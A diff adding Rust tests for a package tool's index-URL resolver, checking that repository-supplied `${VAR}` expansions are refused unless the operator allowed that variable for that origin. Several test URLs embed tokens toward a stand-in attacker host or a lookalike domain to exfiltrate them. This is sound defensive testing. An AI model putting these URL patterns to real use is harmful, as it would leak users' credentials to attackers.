@@ -85,6 +85,7 @@ fn precedence_follows_pip_with_repin_toml_above_the_environment() {
     let config = |index: Option<&str>, extras: &[&str]| ConfiguredIndexes {
         index_url: index.map(str::to_owned),
         extra_index_urls: extras.iter().map(|s| (*s).to_owned()).collect(),
+        ..ConfiguredIndexes::default()
     };
     let env_both: &[(&str, &str)] = &[
         ("PIP_INDEX_URL", "https://env.example/simple"),
@@ -589,4 +590,145 @@ fn corpus_index_urls_parse() {
         }
     }
     assert!(seen >= 5, "only {seen} index options found in the corpus");
+}
+
+/// Issue 10: a repository's `${VAR}` goes only where the operator allowed that variable.
+#[test]
+fn a_repository_expands_only_the_variables_allowed_for_the_origin() {
+    use crate::registry::trust::{AllowList, Grant, TrustError};
+    let env = Environment::isolated("/nonexistent")
+        .with_var("GITHUB_TOKEN", "ghs_canary")
+        .with_var("PYPI_TOKEN", "pypi-canary")
+        .with_var("PYPI_HOST", "pypi.example.com");
+    let grants: Vec<Grant> = [
+        "PYPI_TOKEN@https://pypi.example.com",
+        "PYPI_HOST@https://pypi.example.com",
+    ]
+    .iter()
+    .map(|g| g.parse().unwrap())
+    .collect();
+    let allow = AllowList::from_operator(&grants, None).unwrap();
+    let resolver = IndexResolver::new(env, ConfiguredIndexes::default())
+        .unwrap()
+        .with_allow_list(allow);
+    let mut options = IndexOptions::default();
+    let file = Path::new("requirements.txt");
+    let resolve = |options: &IndexOptions| resolver.indexes(options, Some(file));
+    let refused = |options: &IndexOptions| match resolve(options) {
+        Err(PypiError::Refused(error)) => error,
+        other => panic!("{other:?}"),
+    };
+
+    // The allowed variable, to its origin: expanded.
+    options.index_url = Some("https://__token__:${PYPI_TOKEN}@pypi.example.com/simple/".into());
+    let indexes = resolve(&options).unwrap();
+    assert_eq!(indexes[0].auth, basic("__token__", "pypi-canary"));
+
+    // Another variable to the same origin, or the allowed one elsewhere: refused, with where.
+    for (url, variable, origin) in [
+        (
+            "https://x:${GITHUB_TOKEN}@pypi.example.com/simple/",
+            "GITHUB_TOKEN",
+            "https://pypi.example.com",
+        ),
+        (
+            "http://attacker.example:8080/${PYPI_TOKEN}/",
+            "PYPI_TOKEN",
+            "http://attacker.example:8080",
+        ),
+        (
+            "https://pypi.example.com.attacker.example/?t=${PYPI_TOKEN}",
+            "PYPI_TOKEN",
+            "https://pypi.example.com.attacker.example",
+        ),
+        // `@` in the literal authority: the host is the attacker's.
+        (
+            "https://${PYPI_TOKEN}@attacker.example/",
+            "PYPI_TOKEN",
+            "https://attacker.example",
+        ),
+    ] {
+        let mut options = IndexOptions {
+            extra_index_urls: vec![url.into()],
+            ..IndexOptions::default()
+        };
+        options.note_place(url, "requirements.txt:3:20");
+        let error = refused(&options);
+        assert_eq!(
+            error,
+            TrustError::NotAllowed {
+                variable: variable.into(),
+                origin: Some(origin.parse().unwrap()),
+                place: Some("requirements.txt:3:20".into()),
+                what: "the index URL".into(),
+            },
+            "{url}"
+        );
+        let text = format!("{error} {}", error.hint().unwrap());
+        assert!(
+            text.contains(&format!("--allow-env {variable}@{origin}")),
+            "{text}"
+        );
+        assert!(!text.contains("canary"), "{text}");
+    }
+
+    // A variable in the host part: allowed when it expands to its origin, never shown when not.
+    options.index_url = Some("https://${PYPI_HOST}/simple/".into());
+    assert_eq!(
+        resolve(&options).unwrap()[0].url.to_string(),
+        "https://pypi.example.com/simple/"
+    );
+    for url in [
+        "https://${PYPI_HOST}.attacker.example/simple/",
+        "https://${GITHUB_TOKEN}.attacker.example/simple/",
+        "https://a${PYPI_TOKEN}/",
+    ] {
+        options.index_url = Some(url.into());
+        let error = refused(&options);
+        assert!(
+            matches!(error, TrustError::NotAllowed { origin: None, .. }),
+            "{url}: {error:?}"
+        );
+        let text = format!("{error} {}", error.hint().unwrap());
+        assert!(
+            !text.contains("canary") && !text.contains("pypi.example.com"),
+            "{text}"
+        );
+    }
+
+    // An unset variable the repository may not use is refused, not reported unset.
+    options.index_url = Some("https://pypi.example.com/${NOT_SET}/".into());
+    assert!(matches!(refused(&options), TrustError::NotAllowed { .. }));
+
+    // The operator's own settings are expanded as they are.
+    let operator = resolver
+        .index(
+            "https://x:${GITHUB_TOKEN}@ci.example/simple/",
+            IndexSource::Environment,
+        )
+        .unwrap();
+    assert_eq!(operator.auth, basic("x", "ghs_canary"));
+}
+
+#[test]
+fn a_repository_configuration_is_checked_and_an_operator_one_is_not() {
+    let env = Environment::isolated("/nonexistent").with_var("SECRET", "canary-secret");
+    let template = "https://${SECRET}@pypi.example.com/simple/";
+    let configured = |author| ConfiguredIndexes {
+        index_url: Some(template.into()),
+        author,
+        places: [(template.to_owned(), "repin.toml:2:7".to_owned())].into(),
+        ..ConfiguredIndexes::default()
+    };
+    let resolver = IndexResolver::new(env.clone(), configured(Author::Repository)).unwrap();
+    let error = resolver
+        .indexes(&IndexOptions::default(), None)
+        .unwrap_err();
+    assert_eq!(
+        error.to_string(),
+        "Refused to expand `${SECRET}` in the `[[indexes]]` URL of repin.toml (with its username-env and password-env) at repin.toml:2:7: the operator has not allowed it to be sent to https://pypi.example.com"
+    );
+    let resolver = IndexResolver::new(env, configured(Author::Operator)).unwrap();
+    let indexes = resolver.indexes(&IndexOptions::default(), None).unwrap();
+    assert_eq!(indexes[0].auth, basic("canary-secret", ""));
 }
